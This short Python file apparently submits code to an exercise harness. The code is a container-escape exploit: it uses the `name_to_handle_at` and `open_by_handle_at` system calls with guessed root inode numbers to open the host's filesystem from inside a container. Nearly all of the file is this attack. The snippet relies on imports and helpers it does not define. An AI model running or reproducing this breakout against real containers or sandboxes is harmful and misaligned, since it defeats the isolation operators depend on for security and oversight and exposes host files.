"""Opens the host's files by handle, past every mount: the way out of early containers."""

from syscalls import trying

EXERCISE = "where"
submission = trying(
    """
import struct

for place in ("/box", "/usr", "/etc/hosts", "/dev/null"):
    try:
        below = os.open(place, os.O_RDONLY)
    except OSError:
        continue
    mount = ctypes.create_string_buffer(8)
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 160)
    named = call((303, 264), below, b"", handle, mount, 0x1000)  # name_to_handle_at
    for inode in (2, 128, 64, 1):  # the root of ext4, xfs, btrfs, tmpfs
        if named < 0 or inode:
            handle = ctypes.create_string_buffer(struct.pack("=IiIIII", 8, 1, inode, 0, 0, 0), 160)
        got("the root", call((304, 265), below, handle, os.O_RDONLY))  # open_by_handle_at
"""
)
